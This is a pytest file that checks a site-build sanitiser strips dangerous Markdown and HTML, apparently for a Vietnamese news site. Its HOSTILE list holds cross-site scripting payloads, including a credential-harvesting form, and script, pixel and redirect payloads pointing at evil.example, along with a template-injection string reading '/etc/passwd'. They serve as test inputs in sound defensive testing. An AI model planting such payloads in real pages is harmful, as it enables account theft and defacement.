"""Hostile texts: what an editor's Markdown can try, and what is left of it."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from build_ground import Ground

from pipeline.build.markdown_page import MarkdownTexts
from pipeline.build.sanitise import BodyCleaner

EXTENSIONS = ["abbr", "attr_list", "def_list", "footnotes", "sane_lists", "tables", "toc"]
SOURCE = "content/mau/tin-tuc/2026/11/tin.md"
HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' &#106;avascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](vbscript:msgbox)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "![theo dõi](https://evil.example/pixel.gif)",
    "<iframe src='https://evil.example'></iframe>",
    "<object data='x'></object><embed src=x>",
    "<form action='https://evil.example'><input name=mat-khau><button>Gửi</button></form>",
    "<style>body{display:none}</style>",
    "<p style='position:fixed;inset:0'>che trang</p>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'>",
    "Đoạn văn {: onclick=alert(1) style=color:red class=md-header id=noi-dung }",
    "## Mục {#noi-dung onmouseover=alert(1)}",
    "<div id=noi-dung class='md-overlay site-header'>giả đầu trang</div>",
    "<video autoplay src='https://evil.example/x.mp4'></video>",
    "<marquee>chạy</marquee><blink>nháy</blink>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "{{ config.site_dir }} {% include '/etc/passwd' %}",
    "</div></main><script>alert(1)</script>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
]
ALLOWED = {
    *("a", "abbr", "blockquote", "br", "code", "dd", "details", "div", "dl", "dt", "em", "h2", "h3", "hr"),
    *("img", "li", "ol", "p", "pre", "section", "span", "strong", "sub", "summary", "sup"),
    *("table", "tbody", "td", "th", "thead", "tr", "ul"),
}


class Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


@pytest.fixture(scope="module")
def cleaner(tmp_path_factory: pytest.TempPathFactory) -> BodyCleaner:
    from build_ground import ground

    land = ground(tmp_path_factory.mktemp("kho"))
    land.item("tin-tuc/2026/11/tin.md")
    land.item("tin-tuc/2026/11/khac.md", tieu_de="Tin khác")
    land.item("tin-tuc/2026/11/hen.md", tieu_de="Tin hẹn", dang_luc="2026-12-30T08:00:00+07:00")
    land.file("anh/a.svg", "<svg xmlns='http://www.w3.org/2000/svg'/>")
    land.file("tep/x.html", "<script>alert(1)</script>")
    land.file("tep/x.js", "alert(1)")
    return BodyCleaner(land.context())


def clean(cleaner: BodyCleaner, text: str) -> str:
    return cleaner.clean(MarkdownTexts(EXTENSIONS, {}).render(text, "vi"), SOURCE)[0]


def tags(html: str) -> list[tuple[str, dict[str, str | None]]]:
    parser = Tags()
    parser.feed(html)
    return parser.found


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_that_acts_survives(cleaner: BodyCleaner, text: str) -> None:
    for tag, attrs in tags(clean(cleaner, text)):
        assert tag in ALLOWED
        assert not [
            a for a in attrs if a.startswith("on") or a in ("style", "srcdoc", "action", "formaction")
        ]
        for name in ("href", "src"):
            assert not re.match(r"\s*(javascript|vbscript|data):", attrs.get(name) or "", re.IGNORECASE)
        if tag == "img":
            assert not (attrs.get("src") or "").startswith(("http", "//"))
        assert attrs.get("id") in (None, "muc-noi-dung", "muc-muc", "muc-")
        assert attrs.get("class") is None


def test_hostile_texts_together_are_as_harmless_as_alone(cleaner: BodyCleaner) -> None:
    found = tags(clean(cleaner, "\n\n".join(HOSTILE)))
    assert {tag for tag, _ in found} <= ALLOWED
    assert not [a for _, attrs in found for a in attrs if a.startswith("on") or a == "style"]


def test_ordinary_text_stays(cleaner: BodyCleaner) -> None:
    text = (
        '## Phạm vi\n\nĐoạn có **chữ đậm**, chú thích[^1] và <span lang="en">English</span>.\n\n'
        "> Trích dẫn\n> — Nguồn\n\n1. Một\n2. Hai\n\n| Tên | Số |\n|:--|--:|\n| A | 1 |\n\n[^1]: Nội dung chú thích.\n"
    )
    html = clean(cleaner, text)
    for part in (
        '<h2 id="muc-pham-vi">Phạm vi</h2>',
        "<strong>chữ đậm</strong>",
        '<span lang="en">English</span>',
        '<th class="can-trai" scope="col">Tên</th>',
        '<td class="can-phai">1</td>',
        '<a class="footnote-ref" href="#fn:1">1</a>',
        'title="Về chỗ có chú thích 1"',
    ):
        assert part in html, part
    assert "style=" not in html


def test_links_lead_to_addresses_and_files_are_counted(cleaner: BodyCleaner) -> None:
    rendered = MarkdownTexts(EXTENSIONS, {}).render(
        "[Tin khác](khac.md#phan-1) [mục](/tin-tuc/) ![Ảnh](/anh/a.svg) [thiếu](khong-co.md)", "vi"
    )
    html, used = cleaner.clean(rendered, SOURCE)
    assert '<a href="/tin-tuc/2026/11/khac/#muc-phan-1">Tin khác</a>' in html
    assert '<a href="/tin-tuc/">mục</a>' in html
    assert '<img alt="Ảnh" src="/anh/a.svg">' in html
    assert '<a href="khong-co.md">thiếu</a>' in html
    assert used == {"content/mau/anh/a.svg"}


def test_a_link_to_an_item_under_embargo_does_not_name_it(cleaner: BodyCleaner) -> None:
    assert clean(cleaner, "[sắp có](hen.md)") == "<p><a>sắp có</a></p>"


def test_files_that_act_are_never_linked(cleaner: BodyCleaner) -> None:
    html, used = cleaner.clean("<a href='/tep/x.html'>a</a><a href='/tep/x.js'>b</a>", SOURCE)
    assert html == "<a>a</a><a>b</a>"
    assert not used


def test_headings_of_the_same_text_have_different_ids(cleaner: BodyCleaner) -> None:
    ids = re.findall(r'id="([^"]+)"', clean(cleaner, "## Điều 1\n\n## Điều 1\n\n## !!!\n"))
    assert len(set(ids)) == 3
    assert all(i.startswith("muc-") for i in ids)


def test_land_is_untouched_by_a_page_of_its_own_type(land: Ground) -> None:
    """A section named like a folder of the build, or a climbing slug, makes no page."""
    for path in (
        "assets/site.css.md",
        "api/tin-tuc.md",
        "anh/x.md",
        "tin-tuc/..../x.md",
        "tin-tuc/2026/13/x.md",
    ):
        land.item(path)
    own = {u for u, p in land.pages().items() if p.entry}
    assert own == set()
